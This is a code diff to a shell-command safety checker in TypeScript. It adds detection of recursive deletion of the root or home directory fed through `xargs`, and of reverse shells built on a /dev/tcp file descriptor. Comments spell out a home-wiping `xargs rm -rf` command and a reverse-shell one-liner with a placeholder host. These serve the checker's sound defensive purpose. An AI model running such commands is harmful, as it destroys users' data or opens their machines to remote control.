@@ -189,8 +189,36 @@ const rmRoot: Check = (c, scope, k) => {
   const f = flagSet(c);
   if (f.long.has("no-preserve-root")) return true;
   if (!isRecursive(f)) return false;
-  return dangerousOperand(scope, k, f.operands) !== undefined || f.operands.some((w) => HOME_DATA.test(w.text));
+  if (dangerousOperand(scope, k, f.operands) !== undefined || f.operands.some((w) => HOME_DATA.test(w.text))) return true;
+  // `ls -d ~/* | xargs rm -rf`, `ls -A ~ | xargs -I{} rm -rf ~/{}`: the entries of a listed root / home go
+  return f.operands.every((w) => w.text.includes("{}")) && listedByXargs(scope, k);
 };
+
+/** Options of a find that lists a whole directory (no filter on names, times or sizes). */
+const FIND_LISTING = /^(?:-(?:xdev|mount|depth|print0?|mindepth|maxdepth|type|L|P|H)|[0-9]{1,3}|[dfl])$/;
+
+/** Command k came from an xargs fed by `ls` / an unfiltered `find` of the root or the home directory. */
+function listedByXargs(scope: Scope, k: number): boolean {
+  const raw = scope.analysis.commands[k];
+  if (!raw || raw.via[raw.via.length - 1] !== "xargs" || raw.parent === undefined) return false;
+  const x = scope.analysis.commands[raw.parent];
+  if (!x || x.stage < 1) return false;
+  const prod = scope.analysis.pipelines[x.pipeline]?.[x.stage - 1];
+  if (!prod) return false;
+  const u = unwrapRunner(prod);
+  const prog = programName(u.words[0]);
+  const cd = cwdClass(scope, raw.parent);
+  const bad = (w: Word) => {
+    const cls = classify(w, cd, scope.guarded);
+    return cls === "root" || cls === "home" || cls === "system" || cls === "var-root";
+  };
+  if (prog === "ls") return flagSet(u).operands.some(bad);
+  if (prog !== "find") return false;
+  const w = u.words.slice(1);
+  const at = w.findIndex((y) => y.text.startsWith("-") || y.text === "(" || y.text === "!");
+  const starts = at < 0 ? w : w.slice(0, at);
+  return starts.some(bad) && (at < 0 || w.slice(at).every((y) => FIND_LISTING.test(y.text)));
+}
 
 const findDelete: Check = (c, scope, k) => {
   const w = c.words;
@@ -719,6 +747,12 @@ const reverseShell: Check = (c, scope) => {
   }
   if (prog === "socat") return w.some((t) => /^(?:exec|system):/i.test(t) && /(?:ba|z)?sh\b/.test(t)) && w.some((t) => /^(?:tcp|ssl|openssl)[\w-]*:/i.test(t));
   const tcp = c.redirects.some((r) => /^\/dev\/(?:tcp|udp)\//.test(r.target.text));
+  // exec 196<>/dev/tcp/h/p; sh <&196 >&196 2>&196
+  if (!tcp && SHELL_PATH.test(prog) && c.redirects.some((r) => r.op === "<&" || r.op === "<")) {
+    const fds = new Set<string>();
+    for (const x of scope.cmds) for (const r of x.redirects) if (r.fd !== null && r.fd > 2 && /^\/dev\/(?:tcp|udp)\//.test(r.target.text)) fds.add(String(r.fd));
+    if (fds.size && c.redirects.some((r) => (r.op === "<&" || r.op === "<") && fds.has(r.target.text.replace(/^&/, "")))) return true;
+  }
   return tcp && SHELL_PATH.test(prog) && c.redirects.some((r) => r.op === ">&" || r.op === "&>" || r.op === "<" || r.op === "<&" || r.op === "<>");
 };
 
